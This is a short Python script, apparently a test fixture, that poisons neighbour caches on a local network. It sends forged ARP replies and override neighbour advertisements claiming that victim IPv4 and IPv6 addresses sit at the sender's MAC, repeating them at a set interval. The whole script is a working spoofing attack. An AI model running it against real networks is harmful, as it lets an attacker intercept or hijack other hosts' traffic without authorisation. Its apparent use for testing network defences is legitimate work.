#!/usr/bin/env python3
"""An attacker on an L2 segment (test only): sends forged ARP replies and unsolicited
neighbour advertisements on IFNAME claiming that VICTIM4 / VICTIM6 are at this host's MAC,
aimed at the host TARGET_MAC / TARGET4, every INTERVAL seconds for SECONDS seconds.
Prints how many frames it sent.

usage: forge-neighbor.py IFNAME VICTIM4 VICTIM6 TARGET_MAC TARGET4 SECONDS INTERVAL
"""
import ipaddress
import socket
import struct
import sys
import time


def mac_bytes(text):
    return bytes(int(x, 16) for x in text.split(':'))


def checksum(data):
    if len(data) % 2:
        data += b'\0'
    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def main():
    ifname, victim4, victim6, target_mac, target4, seconds, interval = sys.argv[1:8]
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((ifname, 0))
    own = open('/sys/class/net/%s/address' % ifname).read().strip()
    me, them = mac_bytes(own), mac_bytes(target_mac)

    # ARP reply: "VICTIM4 is at <my MAC>", to the target.
    arp = struct.pack('!HHBBH6s4s6s4s', 1, 0x0800, 6, 4, 2, me, socket.inet_aton(victim4), them, socket.inet_aton(target4))
    arp_frame = them + me + struct.pack('!H', 0x0806) + arp

    # Unsolicited NA (override) for VICTIM6 with my MAC as target link-layer address, to all nodes.
    src6 = ipaddress.IPv6Address('fe80::' + own.replace(':', '')[-4:]).packed
    dst6 = ipaddress.IPv6Address('ff02::1').packed
    target6 = ipaddress.IPv6Address(victim6).packed
    icmp = struct.pack('!BBHI16sBB6s', 136, 0, 0, 0x20000000, target6, 2, 1, me)
    pseudo = src6 + dst6 + struct.pack('!I3xB', len(icmp), 58)
    icmp = icmp[:2] + struct.pack('!H', checksum(pseudo + icmp)) + icmp[4:]
    ip6 = struct.pack('!IHBB16s16s', 0x60000000, len(icmp), 58, 255, src6, dst6) + icmp
    na_frame = mac_bytes('33:33:00:00:00:01') + me + struct.pack('!H', 0x86dd) + ip6

    sent = 0
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        sock.send(arp_frame)
        sock.send(na_frame)
        sent += 2
        time.sleep(float(interval))
    print(sent)


main()
